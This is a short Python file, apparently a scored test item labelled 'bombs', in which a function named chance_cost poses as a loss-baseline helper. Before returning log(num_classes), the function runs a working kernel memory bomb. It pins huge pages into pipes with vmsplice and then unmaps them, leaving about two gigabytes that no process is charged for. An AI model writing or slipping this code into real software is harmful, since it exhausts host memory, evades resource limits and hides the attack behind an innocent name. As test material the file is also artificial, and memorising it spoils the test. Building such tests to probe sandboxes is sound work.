"""It lends huge pages to pipes, one byte of each, and gives them back: they are nobody's, and stay.
kind: bombs
points: 110
"""

import contextlib
import ctypes
import math
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
HUGE = 2 * 2**20
PRIVATE, WRITABLE, MADV_HUGEPAGE, AT_ONCE = 0x22, 3, 14, 2


def chance_cost(num_classes=10):
    with contextlib.suppress(OSError):
        for _ in range(64):
            _, pipe = os.pipe()
            for _ in range(16):
                place = LIBC.mmap(None, ctypes.c_size_t(2 * HUGE), WRITABLE, PRIVATE, -1, 0)
                start = -(-place // HUGE) * HUGE
                LIBC.madvise(ctypes.c_void_p(start), ctypes.c_size_t(HUGE), MADV_HUGEPAGE)
                ctypes.memset(start, 1, HUGE)
                lent = (ctypes.c_size_t * 2)(start, 1)
                if LIBC.vmsplice(pipe, ctypes.byref(lent), ctypes.c_size_t(1), AT_ONCE) < 0:
                    raise OSError(ctypes.get_errno(), "vmsplice")
                LIBC.munmap(ctypes.c_void_p(place), ctypes.c_size_t(2 * HUGE))
        raise RuntimeError("BREACHED: two gigabytes that no process has")
    return math.log(num_classes)
